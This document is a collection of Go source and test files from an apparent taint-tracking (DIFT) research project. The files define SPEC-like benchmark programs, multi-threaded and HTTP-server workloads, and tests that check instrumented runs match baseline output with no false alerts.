		int v = search(depth - 1, 3 - side);
		board[i] = 0;
		if (side == 1) { if (v > best) best = v; }
		else { if (v < best) best = v; }
	}
	if (!moved) return evaluate();
	return best;
}

void main() {
	char setup[64];
	int fd = open("input.dat", 0);
	if (fd < 0) exit(1);
	int n = read(fd, setup, 64);
	int i;
	// Classify tainted bytes into clean board values: taint stops here.
	for (i = 0; i < 16; i++) {
		char c = setup[i];
		if (c < 80) board[i] = 0;
		else if (c < 168) board[i] = 1;
		else board[i] = 2;
	}
	int v = search(5, 1);
	print_int(nodes); putc(' ');
	print_int(v); putc('\n');
	exit(0);
}
`,
}

// Bzip2Like mirrors 256.bzip2: histogram (input-indexed, permissive),
// move-to-front transform and run-length encoding over tainted bytes.
var Bzip2Like = &Benchmark{
	Name:      "bzip2",
	Character: "histogram + move-to-front + RLE over tainted bytes",
	Permissive: []string{
		"cbump",
	},
	Input:    func(scale int) []byte { return textInput(0x5b21, scale) },
	RefScale: 8192,
	Source: `
char block[8192];
int count[256];
char mtf[256];
char out[16384];

void cbump(int c) { count[c] = count[c] + 1; }

void main() {
	int fd = open("input.dat", 0);
	if (fd < 0) exit(1);
	int n = read(fd, block, 8192);
	int i;
	for (i = 0; i < 256; i++) mtf[i] = i;
	for (i = 0; i < n; i++) cbump(block[i]);

	// Move-to-front: the output indices come from comparisons and are
	// clean even though the data is tainted.
	int outn = 0;
	for (i = 0; i < n; i++) {
		char c = block[i];
		int j = 0;
		while (mtf[j] != c) j++;
		int idx = j;
		while (j > 0) { mtf[j] = mtf[j - 1]; j--; }
		mtf[0] = c;
		out[outn] = idx;
		outn++;
	}

	// RLE over the MTF indices.
	int rle = 0;
	i = 0;
	while (i < outn) {
		int j = i + 1;
		while (j < outn && out[j] == out[i] && j - i < 255) j++;
		rle += 2;
		i = j;
	}

	int used = 0;
	for (i = 0; i < 256; i++) {
		if (count[i] > 0) used++;
	}
	print_int(outn); putc(' ');
	print_int(rle); putc(' ');
	print_int(used); putc('\n');
	exit(0);
}
`,
}

// VprLike mirrors 175.vpr: simulated-annealing placement. Net weights are
// tainted; positions and indices are clean; accept/reject compares run on
// tainted costs.
var VprLike = &Benchmark{
	Name:      "vpr",
	Character: "placement annealing: wirelength cost with tainted weights",
	Input:     func(scale int) []byte { return byteInput(0x77aa, scale) },
	RefScale:  1024,
	Source: `
int cellx[256];
int celly[256];
int neta[512];
int netb[512];
int weight[512];
int rngstate;

int rnd(int n) {
	rngstate = rngstate * 1103515245 + 12345;
	int v = rngstate >> 16;
	if (v < 0) v = -v;
	return v % n;
}

int netcost(int n) {
	int dx = cellx[neta[n]] - cellx[netb[n]];
	int dy = celly[neta[n]] - celly[netb[n]];
	if (dx < 0) dx = -dx;
	if (dy < 0) dy = -dy;
	return (dx + dy) * weight[n];
}

int totalcost() {
	int c = 0;
	int n;
	for (n = 0; n < 512; n++) c += netcost(n);
	return c;
}

void main() {
	char wbuf[1024];
	int fd = open("input.dat", 0);
	if (fd < 0) exit(1);
	int n = read(fd, wbuf, 1024);
	rngstate = 12345;
	int i;
	for (i = 0; i < 256; i++) {
		cellx[i] = rnd(64);
		celly[i] = rnd(64);
	}
	for (i = 0; i < 512; i++) {
		neta[i] = rnd(256);
		netb[i] = rnd(256);
		weight[i] = 1 + wbuf[i % n];       // tainted weights
	}
	int cost = totalcost();
	int accepted = 0;
	int moves;
	for (moves = 0; moves < 200; moves++) {
		int a = rnd(256);
		int b = rnd(256);
		int tx = cellx[a]; int ty = celly[a];
		cellx[a] = cellx[b]; celly[a] = celly[b];
		cellx[b] = tx; celly[b] = ty;
		int nc = totalcost();
		if (nc < cost) { cost = nc; accepted++; }
		else {
			tx = cellx[a]; ty = celly[a];
			cellx[a] = cellx[b]; celly[a] = celly[b];
			cellx[b] = tx; celly[b] = ty;
		}
	}
	print_int(accepted); putc('\n');
	exit(0);
}
`,
}

// McfLike mirrors 181.mcf: memory-bound graph relaxation. The graph is
// procedural (clean); only a small slice of arc costs is tainted, so —
// like the paper's mcf — the dynamic enhancement benefit is small.
var McfLike = &Benchmark{
	Name:      "mcf",
	Character: "Bellman-Ford relaxation, memory-bound, little tainted data",
	Input:     func(scale int) []byte { return byteInput(0x33c9, 64) },
	RefScale:  64,
	Source: `
int arcsrc[4096];
int arcdst[4096];
int arccost[4096];
int dist[1024];
int rngstate;

int rnd(int n) {
	rngstate = rngstate * 1103515245 + 12345;
	int v = rngstate >> 16;
	if (v < 0) v = -v;
	return v % n;
}

void main() {
	char perturb[64];
	int fd = open("input.dat", 0);
	if (fd < 0) exit(1);
	int pn = read(fd, perturb, 64);
	rngstate = 999331;
	int i;
	for (i = 0; i < 1024; i++) dist[i] = 1000000;
	for (i = 0; i < 4096; i++) {
		if (i < 1024) {
			arcsrc[i] = i;
			arcdst[i] = (i + 1) % 1024;
		} else {
			arcsrc[i] = rnd(1024);
			arcdst[i] = rnd(1024);
		}
		arccost[i] = 1 + rnd(100);
	}
	// Taint a small slice of the costs.
	for (i = 0; i < pn; i++) {
		arccost[i * 7 % 4096] += perturb[i] % 16;
	}
	dist[0] = 0;
	int rounds = 0;
	int changed = 1;
	while (changed && rounds < 24) {
		changed = 0;
		for (i = 0; i < 4096; i++) {
			int nd = dist[arcsrc[i]] + arccost[i];
			if (nd < dist[arcdst[i]]) {
				dist[arcdst[i]] = nd;
				changed = 1;
			}
		}
		rounds++;
	}
	int reach = 0;
	for (i = 0; i < 1024; i++) {
		if (dist[i] < 1000000) reach++;
	}
	print_int(rounds); putc(' ');
	print_int(reach); putc('\n');
	exit(0);
}
`,
}

// ParserLike mirrors 197.parser: tokenise text into words and binary-
// search them in a dictionary. Character loads, string compares on
// tainted data, clean indices from comparisons.
var ParserLike = &Benchmark{
	Name:      "parser",
	Character: "word tokeniser + dictionary binary search over tainted text",
	Input:     func(scale int) []byte { return textInput(0xfeed5, scale) },
	RefScale:  12288,
	Source: `
char text[12288];
char dict[320];
int counts[20];
int ndict;

void dput(int slot, char *w) {
	int i = 0;
	while (w[i]) { dict[slot * 16 + i] = w[i]; i++; }
	dict[slot * 16 + i] = 0;
}

int dcmp(char *w, int n, int slot) {
	int i = 0;
	while (i < n && dict[slot * 16 + i] && w[i] == dict[slot * 16 + i]) i++;
	if (i == n) {
		if (dict[slot * 16 + i] == 0) return 0;
		return -1;
	}
	return w[i] - dict[slot * 16 + i];
}

void main() {
	int fd = open("input.dat", 0);
	if (fd < 0) exit(1);
	int n = read(fd, text, 12288);

	// Sorted dictionary.
	dput(0, "black");  dput(1, "box");    dput(2, "brown");  dput(3, "dog");
	dput(4, "dozen");  dput(5, "five");   dput(6, "fox");    dput(7, "jugs");
	dput(8, "jumps");  dput(9, "lazy");   dput(10, "liquor"); dput(11, "my");
	dput(12, "of");    dput(13, "over");  dput(14, "pack");  dput(15, "quartz");
	dput(16, "quick"); dput(17, "sphinx"); dput(18, "the");  dput(19, "with");
	ndict = 20;

	int i = 0;
	int words = 0;
	int known = 0;
	while (i < n) {
		while (i < n && (text[i] == ' ' || text[i] == '\n')) i++;
		int start = i;
		while (i < n && text[i] != ' ' && text[i] != '\n') i++;
		int len = i - start;
		if (len == 0) continue;
		words++;
		int lo = 0;
		int hi = ndict - 1;
		while (lo <= hi) {
			int mid = (lo + hi) / 2;
			int c = dcmp(text + start, len, mid);
			if (c == 0) { counts[mid]++; known++; break; }
			if (c < 0) hi = mid - 1;
			else lo = mid + 1;
		}
	}
	print_int(words); putc(' ');
	print_int(known); putc('\n');
	exit(0);
}
`,
}

// TwolfLike mirrors 300.twolf: another annealer, but with bounding-box
// net costs and single-cell displacement moves — store-heavier than vpr.
var TwolfLike = &Benchmark{
	Name:      "twolf",
	Character: "cell displacement annealing with bounding-box net costs",
	Input:     func(scale int) []byte { return byteInput(0xd00d, scale) },
	RefScale:  1024,
	Source: `
int cx[200];
int cy[200];
int pin1[300];
int pin2[300];
int pin3[300];
int wgt[300];
int rngstate;

int rnd(int n) {
	rngstate = rngstate * 1103515245 + 12345;
	int v = rngstate >> 16;
	if (v < 0) v = -v;
	return v % n;
}

int bbox(int n) {
	int x1 = cx[pin1[n]];
	int x2 = cx[pin2[n]];
	int x3 = cx[pin3[n]];
	int y1 = cy[pin1[n]];
	int y2 = cy[pin2[n]];
	int y3 = cy[pin3[n]];
	int xmin = x1; int xmax = x1;
	if (x2 < xmin) xmin = x2;
	if (x2 > xmax) xmax = x2;
	if (x3 < xmin) xmin = x3;
	if (x3 > xmax) xmax = x3;
	int ymin = y1; int ymax = y1;
	if (y2 < ymin) ymin = y2;
	if (y2 > ymax) ymax = y2;
	if (y3 < ymin) ymin = y3;
	if (y3 > ymax) ymax = y3;
	return (xmax - xmin + ymax - ymin) * wgt[n];
}

int allcost() {
	int c = 0;
	int n;
	for (n = 0; n < 300; n++) c += bbox(n);
	return c;
}

void main() {
	char wbuf[1024];
	int fd = open("input.dat", 0);
	if (fd < 0) exit(1);
	int n = read(fd, wbuf, 1024);
	rngstate = 777;
	int i;
	for (i = 0; i < 200; i++) { cx[i] = rnd(100); cy[i] = rnd(100); }
	for (i = 0; i < 300; i++) {
		pin1[i] = rnd(200);
		pin2[i] = rnd(200);
		pin3[i] = rnd(200);
		wgt[i] = 1 + wbuf[i % n] % 8;      // tainted weights
	}
	int cost = allcost();
	int accepted = 0;
	int m;
	for (m = 0; m < 150; m++) {
		int c = rnd(200);
		int ox = cx[c]; int oy = cy[c];
		cx[c] = rnd(100);
		cy[c] = rnd(100);
		int nc = allcost();
		if (nc < cost) { cost = nc; accepted++; }
		else { cx[c] = ox; cy[c] = oy; }
	}
	print_int(accepted); putc('\n');
	exit(0);
}
`,
}

// All returns the Figure 7 benchmark list in the paper's order.
func All() []*Benchmark {
	return []*Benchmark{
		GzipLike, VprLike, GccLike, McfLike,
		CraftyLike, ParserLike, Bzip2Like, TwolfLike,
	}
}
