package workload

import (
	"fmt"

	"shift/internal/policy"
	"shift/internal/shift"
)

// MTSource is the multi-threaded evaluation program — the "performance
// implications" experiment the paper leaves as future work (§4.4). K
// worker threads each scan a disjoint slice of tainted file input,
// counting word boundaries and accumulating a mixing checksum; the main
// thread joins them and folds the per-thread results. Worker state is
// strictly partitioned (own input slice, own result slots), the
// discipline threaded guests need while the tag bitmap is unserialized.
const MTSource = `
char text[16384];
int textlen;
int words[16];
int sums[16];
int nworkers;

int worker(int id) {
	int chunk = textlen / nworkers;
	int lo = id * chunk;
	int hi = lo + chunk;
	if (id == nworkers - 1) hi = textlen;
	int w = 0;
	int s = 0;
	int inword = 0;
	int i;
	for (i = lo; i < hi; i++) {
		char c = text[i];
		if (c == ' ' || c == '\n') {
			inword = 0;
		} else {
			if (!inword) w++;
			inword = 1;
			s += c;
		}
		if ((i & 63) == 0) yield();   // periodic interleaving stress
	}
	words[id] = w;
	sums[id] = s > 0 ? s & 0xffff : 0;
	return 0;
}

void main() {
	char nbuf[8];
	getarg(0, nbuf, 8);
	nworkers = atoi(nbuf);
	if (nworkers < 1) nworkers = 1;
	if (nworkers > 8) nworkers = 8;

	int fd = open("input.dat", 0);
	if (fd < 0) exit(1);
	textlen = read(fd, text, 16384);

	int tids[8];
	int k;
	for (k = 0; k < nworkers; k++) tids[k] = spawn("worker", k);
	int total = 0;
	for (k = 0; k < nworkers; k++) {
		if (tids[k] < 0) exit(2);
		join(tids[k]);
		total += words[k];
	}
	print_int(total); putc('\n');
	exit(0);
}
`

// MTWorld builds the world for the threaded benchmark.
func MTWorld(scale, workers int) *shift.World {
	w := shift.NewWorld()
	w.Files["input.dat"] = textInput(0x7717, scale)
	w.Args = []string{fmt.Sprint(workers)}
	return w
}

// MTConfig is the policy for the threaded benchmark: file input tainted,
// the worker-count argument clean.
func MTConfig() *policy.Config {
	conf := policy.DefaultConfig()
	conf.Sources = map[string]bool{"file": true, "network": true}
	return conf
}
