package workload

import (
	"fmt"

	"shift/internal/policy"
	"shift/internal/shift"
	"shift/internal/taint"
)

// MTSource is the multi-threaded evaluation program — the "performance
// implications" experiment the paper leaves as future work (§4.4). K
// worker threads each scan a disjoint slice of tainted file input,
// counting word boundaries and accumulating a mixing checksum; the main
// thread joins them and folds the per-thread results. Worker state is
// strictly partitioned (own input slice, own result slots), the
// discipline threaded guests need while the tag bitmap is unserialized.
const MTSource = `
char text[16384];
int textlen;
int words[16];
int sums[16];
int nworkers;

int worker(int id) {
	int chunk = textlen / nworkers;
	int lo = id * chunk;
	int hi = lo + chunk;
	if (id == nworkers - 1) hi = textlen;
	int w = 0;
	int s = 0;
	int inword = 0;
	int i;
	for (i = lo; i < hi; i++) {
		char c = text[i];
		if (c == ' ' || c == '\n') {
			inword = 0;
		} else {
			if (!inword) w++;
			inword = 1;
			s += c;
		}
		if ((i & 63) == 0) yield();   // periodic interleaving stress
	}
	words[id] = w;
	sums[id] = s > 0 ? s & 0xffff : 0;
	return 0;
}

void main() {
	char nbuf[8];
	getarg(0, nbuf, 8);
	nworkers = atoi(nbuf);
	if (nworkers < 1) nworkers = 1;
	if (nworkers > 8) nworkers = 8;

	int fd = open("input.dat", 0);
	if (fd < 0) exit(1);
	textlen = read(fd, text, 16384);

	int tids[8];
	int k;
	for (k = 0; k < nworkers; k++) tids[k] = spawn("worker", k);
	int total = 0;
	for (k = 0; k < nworkers; k++) {
		if (tids[k] < 0) exit(2);
		join(tids[k]);
		total += words[k];
	}
	print_int(total); putc('\n');
	exit(0);
}
`

// ThreadedTaintSource is the shared-unit stress companion to MTSource:
// instead of partitioning state, K workers deliberately hammer one
// 64-byte array whose bytes share tag units (eight neighbours per tag
// byte at byte granularity, eight per tracked word at word granularity),
// alternating tainted and clean stores with frequent yields. Every store
// is a read-modify-write of a tag byte some sibling is also updating, so
// the run only exits 0 if the tag-coherent schedule kept every update
// intact — and with the lockstep oracle attached, every one of those
// post-spawn stores is cross-checked against the bitmap.
const ThreadedTaintSource = `
char shared[64];
char tbuf[8];
int nworkers;

int worker(int id) {
	int r;
	int i;
	for (r = 0; r < 20; r++) {
		for (i = id; i < 64; i += nworkers) {
			shared[i] = (r & 1) ? tbuf[i & 7] : 'x';
			if (((i >> 3) & 3) == (id & 3)) yield();
		}
	}
	for (i = id; i < 64; i += nworkers) {
		shared[i] = tbuf[i & 7];
	}
	return 0;
}

void main() {
	char nbuf[8];
	recv(tbuf, 8);
	getarg(0, nbuf, 8);
	nworkers = atoi(nbuf);
	if (nworkers < 1) nworkers = 1;
	if (nworkers > 8) nworkers = 8;

	int tids[8];
	int k;
	for (k = 0; k < nworkers; k++) tids[k] = spawn("worker", k);
	for (k = 0; k < nworkers; k++) {
		if (tids[k] < 0) exit(2);
		join(tids[k]);
	}

	int i;
	for (i = 0; i < 64; i++) {
		if (!is_tainted(&shared[i], 1)) exit(1);
	}
	exit(0);
}
`

// ThreadedTaintWorld builds the world for the shared-unit stress: the
// tainted bytes arrive over the network, the worker count as a clean
// argument.
func ThreadedTaintWorld(workers int) *shift.World {
	w := shift.NewWorld()
	w.NetIn = []byte{0xA1, 0xB2, 0xC3, 0xD4, 0xE5, 0xF6, 0x17, 0x28}
	w.Args = []string{fmt.Sprint(workers)}
	return w
}

// ThreadedTaintConfig taints network input only, leaving the worker-count
// argument clean, at the given granularity.
func ThreadedTaintConfig(g taint.Granularity) *policy.Config {
	conf := policy.DefaultConfig()
	conf.Sources = map[string]bool{"network": true}
	conf.Granularity = g
	return conf
}

// MTWorld builds the world for the threaded benchmark.
func MTWorld(scale, workers int) *shift.World {
	w := shift.NewWorld()
	w.Files["input.dat"] = textInput(0x7717, scale)
	w.Args = []string{fmt.Sprint(workers)}
	return w
}

// MTConfig is the policy for the threaded benchmark: file input tainted,
// the worker-count argument clean.
func MTConfig() *policy.Config {
	conf := policy.DefaultConfig()
	conf.Sources = map[string]bool{"file": true, "network": true}
	return conf
}
