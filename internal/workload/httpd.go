package workload

import (
	"fmt"

	"shift/internal/policy"
	"shift/internal/shift"
)

// HTTPDSource is the Apache stand-in of Figure 6: a request-serving loop.
// Requests arrive as fixed 64-byte records ("GET <name>", NUL padded);
// the server validates the method, joins the name onto the document
// root — with all request bytes tainted and H2 checking every open — and
// streams the file back in 8 KiB chunks. Service time is dominated by
// I/O, which is exactly why the paper measures ≈1% overhead here.
const HTTPDSource = `
char req[64];
char path[128];
char fbuf[8192];

void main() {
	int served = 0;
	int errors = 0;
	while (1) {
		int n = recv(req, 64);
		if (n < 64) break;
		if (req[0] != 'G' || req[1] != 'E' || req[2] != 'T' || req[3] != ' ') {
			send("400 bad request", 15);
			errors++;
			continue;
		}
		strcpy(path, "/www/htdocs/");
		int i = 4;
		int j = 12;
		while (req[i] && i < 63) {
			path[j] = req[i];
			i++;
			j++;
		}
		path[j] = 0;
		int fd = open(path, 0);
		if (fd < 0) {
			send("404 not found", 13);
			errors++;
			continue;
		}
		while (1) {
			int k = read(fd, fbuf, 8192);
			if (k <= 0) break;
			send(fbuf, k);
		}
		served++;
	}
	print_int(served); putc(' ');
	print_int(errors); putc('\n');
	exit(0);
}
`

// HTTPDRequestSize is the fixed request record size.
const HTTPDRequestSize = 64

// HTTPDWorld builds a world carrying `requests` GETs for a single file of
// `fileSize` bytes, mirroring the paper's ab run (single file, fixed
// size).
func HTTPDWorld(requests, fileSize int) *shift.World {
	w := shift.NewWorld()
	name := fmt.Sprintf("page%d.html", fileSize)
	w.Files["/www/htdocs/"+name] = textInput(0xcafe, fileSize)
	var net []byte
	for i := 0; i < requests; i++ {
		rec := make([]byte, HTTPDRequestSize)
		copy(rec, "GET "+name)
		net = append(net, rec...)
	}
	w.NetIn = net
	return w
}

// HTTPDConfig returns the server's policy configuration.
func HTTPDConfig() *policy.Config { return policy.DefaultConfig() }
