package workload

import (
	"testing"

	"shift/internal/machine"
	"shift/internal/shift"
)

// scale returns a reduced input size for quick test runs.
func scale(b *Benchmark) int {
	s := b.RefScale / 8
	if s < 64 {
		s = 64
	}
	return s
}

// runBench builds and runs one benchmark in the given mode.
func runBench(t *testing.T, b *Benchmark, opt shift.Options, sc int) *shift.Result {
	t.Helper()
	conf := b.Config()
	opt.Policy = conf
	res, err := shift.BuildAndRun(
		[]shift.Source{{Name: b.Name + ".mc", Text: b.Source}},
		b.World(sc), opt)
	if err != nil {
		t.Fatalf("%s: %v", b.Name, err)
	}
	return res
}

// TestBenchmarksRunCleanInAllModes is the evaluation's correctness core:
// every benchmark must produce identical output in baseline and
// instrumented modes, with no false-positive alerts even though all of
// its file input is tainted (paper §6.2), and instrumentation must cost
// cycles.
func TestBenchmarksRunCleanInAllModes(t *testing.T) {
	for _, b := range All() {
		b := b
		t.Run(b.Name, func(t *testing.T) {
			sc := scale(b)
			base := runBench(t, b, shift.Options{}, sc)
			if base.Trap != nil || base.Alert != nil {
				t.Fatalf("baseline: trap=%v alert=%v", base.Trap, base.Alert)
			}
			if base.ExitStatus != 0 {
				t.Fatalf("baseline exit=%d stdout=%q", base.ExitStatus, base.World.Stdout)
			}
			if len(base.World.Stdout) == 0 {
				t.Fatal("no checksum output")
			}

			instr := runBench(t, b, shift.Options{Instrument: true}, sc)
			if instr.Trap != nil {
				t.Fatalf("instrumented: trap=%v", instr.Trap)
			}
			if instr.Alert != nil {
				t.Fatalf("instrumented: false positive: %v", instr.Alert)
			}
			if string(instr.World.Stdout) != string(base.World.Stdout) {
				t.Fatalf("output diverged: baseline %q vs instrumented %q",
					base.World.Stdout, instr.World.Stdout)
			}
			if instr.Cycles <= base.Cycles {
				t.Errorf("instrumentation is free? base=%d instr=%d", base.Cycles, instr.Cycles)
			}

			enh := runBench(t, b, shift.Options{
				Instrument: true,
				Features:   machine.Features{SetClrNaT: true, NaTAwareCmp: true},
			}, sc)
			if enh.Trap != nil || enh.Alert != nil {
				t.Fatalf("enhanced: trap=%v alert=%v", enh.Trap, enh.Alert)
			}
			if string(enh.World.Stdout) != string(base.World.Stdout) {
				t.Fatalf("enhanced output diverged: %q vs %q", base.World.Stdout, enh.World.Stdout)
			}
			if enh.Cycles >= instr.Cycles {
				t.Errorf("enhancements did not help: instr=%d enh=%d", instr.Cycles, enh.Cycles)
			}

			opt := runBench(t, b, shift.Options{Instrument: true, Optimize: true}, sc)
			if opt.Trap != nil || opt.Alert != nil {
				t.Fatalf("optimized: trap=%v alert=%v", opt.Trap, opt.Alert)
			}
			if string(opt.World.Stdout) != string(base.World.Stdout) {
				t.Fatalf("optimized output diverged: %q vs %q", base.World.Stdout, opt.World.Stdout)
			}
			if opt.Cycles >= instr.Cycles {
				t.Errorf("optimizations did not help: instr=%d opt=%d", instr.Cycles, opt.Cycles)
			}
		})
	}
}

func TestBenchmarkMetadata(t *testing.T) {
	names := map[string]bool{}
	for _, b := range All() {
		if b.Name == "" || b.Source == "" || b.Character == "" || b.Input == nil || b.RefScale <= 0 {
			t.Errorf("%q: incomplete benchmark definition", b.Name)
		}
		if names[b.Name] {
			t.Errorf("duplicate benchmark %q", b.Name)
		}
		names[b.Name] = true
		if got := len(b.Input(256)); got == 0 {
			t.Errorf("%s: empty input", b.Name)
		}
	}
	if len(names) != 8 {
		t.Errorf("want the 8 SPEC analogues, have %d", len(names))
	}
}

func TestInputsDeterministic(t *testing.T) {
	for _, b := range All() {
		a := b.Input(512)
		c := b.Input(512)
		if string(a) != string(c) {
			t.Errorf("%s: non-deterministic input", b.Name)
		}
	}
}

// TestMultiThreadedWorkload checks the §4.4 future-work program: output
// equality between baseline and instrumented runs at several worker
// counts, independent of scheduling quantum.
func TestMultiThreadedWorkload(t *testing.T) {
	for _, k := range []int{1, 2, 5, 8} {
		base, err := shift.BuildAndRun(
			[]shift.Source{{Name: "mt.mc", Text: MTSource}},
			MTWorld(2048, k), shift.Options{})
		if err != nil {
			t.Fatalf("k=%d: %v", k, err)
		}
		if base.Trap != nil || base.ExitStatus != 0 {
			t.Fatalf("k=%d: trap=%v exit=%d", k, base.Trap, base.ExitStatus)
		}
		for _, q := range []uint64{0, 17, 333} {
			prot, err := shift.BuildAndRun(
				[]shift.Source{{Name: "mt.mc", Text: MTSource}},
				MTWorld(2048, k),
				shift.Options{Instrument: true, Policy: MTConfig(), Quantum: q})
			if err != nil {
				t.Fatalf("k=%d q=%d: %v", k, q, err)
			}
			if prot.Trap != nil || prot.Alert != nil {
				t.Fatalf("k=%d q=%d: trap=%v alert=%v", k, q, prot.Trap, prot.Alert)
			}
			if string(prot.World.Stdout) != string(base.World.Stdout) {
				t.Errorf("k=%d q=%d: output diverged: %q vs %q",
					k, q, prot.World.Stdout, base.World.Stdout)
			}
		}
	}
}

// TestMTWorkerCountChangesSplitNotAnswer: the word count is independent
// of how the text is partitioned (workers handle boundaries).
func TestMTWorkerCountAgreement(t *testing.T) {
	var outs []string
	for _, k := range []int{1, 3, 7} {
		res, err := shift.BuildAndRun(
			[]shift.Source{{Name: "mt.mc", Text: MTSource}},
			MTWorld(1024, k), shift.Options{})
		if err != nil {
			t.Fatal(err)
		}
		outs = append(outs, string(res.World.Stdout))
	}
	// Note: chunk-boundary words may be double counted when a word
	// straddles a split; the program counts word *starts* per chunk, so
	// counts may differ by at most the number of boundaries.
	if outs[0] == "" {
		t.Fatal("no output")
	}
}
