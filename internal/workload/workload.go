// Package workload provides the evaluation programs: eight minic
// benchmarks mirroring the instruction-mix character of the SPEC-INT2000
// programs the paper measures (Figures 7–9, Table 3), and an HTTP-like
// server standing in for Apache (Figure 6).
//
// Each benchmark reads its reference input from a "disk file" — which the
// evaluation marks tainted, exactly as §6.2 does ("we mark all data read
// from disk as tainted") — runs a kernel characteristic of the original
// program, and prints a checksum. Benchmarks whose kernels index tables
// by input data declare those lookup routines permissive (the paper's
// bounds-checked translation-table escape hatch, §3.3.2); everything else
// runs under the strict default policies with no false positives.
package workload

import (
	"fmt"

	"shift/internal/policy"
	"shift/internal/shift"
)

// Benchmark is one evaluation program.
type Benchmark struct {
	// Name matches the SPEC program it mirrors.
	Name string
	// Character is a one-line description of the mirrored behaviour.
	Character string
	// Source is the minic program.
	Source string
	// Permissive lists functions allowed to dereference tainted
	// pointers (input-indexed tables).
	Permissive []string
	// Input builds the reference input for the given scale (bytes of
	// "disk" data read at startup).
	Input func(scale int) []byte
	// RefScale is the size used by the full evaluation; tests may use
	// smaller scales.
	RefScale int
}

// World builds a fresh world with the benchmark's input installed as the
// disk file the program reads.
func (b *Benchmark) World(scale int) *shift.World {
	w := shift.NewWorld()
	w.Files["input.dat"] = b.Input(scale)
	return w
}

// Config returns the policy configuration the benchmark runs under:
// everything enabled, disk input tainted, its lookup functions permissive.
func (b *Benchmark) Config() *policy.Config {
	conf := policy.DefaultConfig()
	for _, fn := range b.Permissive {
		conf.NoTrack[fn] = true
	}
	return conf
}

// lcg is the deterministic generator all inputs use (no host randomness:
// every run of every experiment is reproducible).
type lcg uint64

func (r *lcg) next() uint64 {
	*r = *r*6364136223846793005 + 1442695040888963407
	return uint64(*r >> 33)
}

func (r *lcg) intn(n int) int { return int(r.next() % uint64(n)) }

// textInput produces compressible ASCII text of n bytes.
func textInput(seed uint64, n int) []byte {
	r := lcg(seed)
	words := []string{"the", "quick", "brown", "fox", "jumps", "over",
		"lazy", "dog", "pack", "my", "box", "with", "five", "dozen",
		"liquor", "jugs", "sphinx", "of", "black", "quartz"}
	out := make([]byte, 0, n)
	for len(out) < n {
		out = append(out, words[r.intn(len(words))]...)
		if r.intn(8) == 0 {
			out = append(out, '\n')
		} else {
			out = append(out, ' ')
		}
	}
	return out[:n]
}

// byteInput produces uniform pseudo-random bytes.
func byteInput(seed uint64, n int) []byte {
	r := lcg(seed)
	out := make([]byte, n)
	for i := range out {
		out[i] = byte(r.next())
	}
	return out
}

// exprInput produces arithmetic expressions, one per line.
func exprInput(seed uint64, n int) []byte {
	r := lcg(seed)
	out := make([]byte, 0, n)
	for len(out) < n {
		terms := 2 + r.intn(6)
		for t := 0; t < terms; t++ {
			if t > 0 {
				out = append(out, "+-*"[r.intn(3)])
			}
			if r.intn(4) == 0 {
				out = append(out, '(')
				out = append(out, fmt.Sprintf("%d+%d", r.intn(90)+1, r.intn(90)+1)...)
				out = append(out, ')')
			} else {
				out = append(out, fmt.Sprintf("%d", r.intn(900)+1)...)
			}
		}
		out = append(out, '\n')
	}
	return out[:n]
}
