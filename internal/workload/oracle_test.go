package workload

import (
	"testing"

	"shift/internal/machine"
	"shift/internal/shift"
	"shift/internal/taint"
)

// TestOracleLockstepOverWorkloads runs every evaluation benchmark with
// the lockstep reference DIFT engine attached — uninstrumented (mechanical
// NaT-rule checks only) and instrumented at both granularities plus the
// enhanced/optimized variants — and requires zero divergences. This is
// the acceptance sweep for the tag/NaT machinery over realistic code.
func TestOracleLockstepOverWorkloads(t *testing.T) {
	modes := []struct {
		name string
		opt  shift.Options
	}{
		{"base", shift.Options{Oracle: true}},
		{"byte", shift.Options{Oracle: true, Instrument: true, Granularity: taint.Byte}},
		{"word", shift.Options{Oracle: true, Instrument: true, Granularity: taint.Word}},
		{"byte+enh", shift.Options{Oracle: true, Instrument: true, Granularity: taint.Byte,
			Features: machine.Features{SetClrNaT: true, NaTAwareCmp: true}}},
		{"word+opt", shift.Options{Oracle: true, Instrument: true, Granularity: taint.Word, Optimize: true}},
	}
	// Short mode (the -race CI stage) trims to the core modes and skips
	// the benchmarks with fixed-iteration kernels whose runtime doesn't
	// shrink with input scale; the full matrix runs in the regular suite.
	slow := map[string]bool{"vpr": true, "twolf": true, "mcf": true}
	if testing.Short() {
		modes = modes[:3] // base, byte, word
	}
	for _, b := range All() {
		b := b
		t.Run(b.Name, func(t *testing.T) {
			if testing.Short() && slow[b.Name] {
				t.Skip("fixed-iteration kernel; covered by the non-short run")
			}
			sc := scale(b)
			for _, m := range modes {
				res := runBench(t, b, m.opt, sc)
				if res.Trap != nil {
					t.Fatalf("%s: %v", m.name, res.Trap)
				}
				if res.Alert != nil {
					t.Fatalf("%s: false positive under oracle: %v", m.name, res.Alert)
				}
				if d := res.Oracle.Divergence(); d != nil {
					t.Fatalf("%s: divergence: %v", m.name, d)
				}
				st := res.Oracle.Stats
				if st.Steps == 0 {
					t.Fatalf("%s: oracle idle", m.name)
				}
				if m.opt.Instrument && (st.RegChecks == 0 || st.UnitChecks == 0) {
					t.Fatalf("%s: oracle not cross-checking: %+v", m.name, st)
				}
			}
		})
	}
}

// TestOracleOverThreads: once a second thread spawns the oracle stands
// its strong checks down (the §4.4 atomicity gap makes them unsound) but
// the thread-local NaT-rule checks must keep passing across worker counts
// and scheduling quanta.
func TestOracleOverThreads(t *testing.T) {
	for _, k := range []int{1, 4} {
		for _, q := range []uint64{0, 17} {
			res, err := shift.BuildAndRun(
				[]shift.Source{{Name: "mt.mc", Text: MTSource}},
				MTWorld(1024, k),
				shift.Options{Instrument: true, Policy: MTConfig(), Quantum: q, Oracle: true})
			if err != nil {
				t.Fatalf("k=%d q=%d: %v", k, q, err)
			}
			if res.Trap != nil || res.Alert != nil {
				t.Fatalf("k=%d q=%d: trap=%v alert=%v", k, q, res.Trap, res.Alert)
			}
			if d := res.Oracle.Divergence(); d != nil {
				t.Fatalf("k=%d q=%d: divergence: %v", k, q, d)
			}
			if res.Oracle.Stats.Steps == 0 {
				t.Fatalf("k=%d q=%d: oracle idle", k, q)
			}
		}
	}
}
