package workload

import (
	"testing"

	"shift/internal/machine"
	"shift/internal/shift"
	"shift/internal/taint"
)

// TestOracleLockstepOverWorkloads runs every evaluation benchmark with
// the lockstep reference DIFT engine attached — uninstrumented (mechanical
// NaT-rule checks only) and instrumented at both granularities plus the
// enhanced/optimized variants — and requires zero divergences. This is
// the acceptance sweep for the tag/NaT machinery over realistic code.
func TestOracleLockstepOverWorkloads(t *testing.T) {
	modes := []struct {
		name string
		opt  shift.Options
	}{
		{"base", shift.Options{Oracle: true}},
